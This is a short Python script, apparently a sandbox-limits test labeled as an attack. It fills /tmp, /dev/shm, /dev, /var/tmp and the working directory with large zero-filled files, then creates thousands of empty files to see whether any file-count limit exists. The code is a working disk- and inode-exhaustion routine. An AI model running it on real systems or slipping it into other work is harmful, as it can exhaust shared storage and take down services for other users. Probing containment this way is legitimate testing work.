# %% [markdown] harm="fills the disk"
# Fills every folder that it can write to, with bytes and with empty files.

# %% attack="last"
import os

for folder in ("/tmp", "/dev/shm", "/dev", "/var/tmp", "."):
    try:
        for number in range(8):
            with open(os.path.join(folder, f"hostile-mark-{number}"), "wb") as file:
                file.write(bytes(2**27))
    except OSError:
        pass
for number in range(30_000):
    try:
        open(f"/dev/shm/hostile-mark-{number}", "w").close()
    except OSError:
        break
else:
    print("LEAKED: no limit on files")
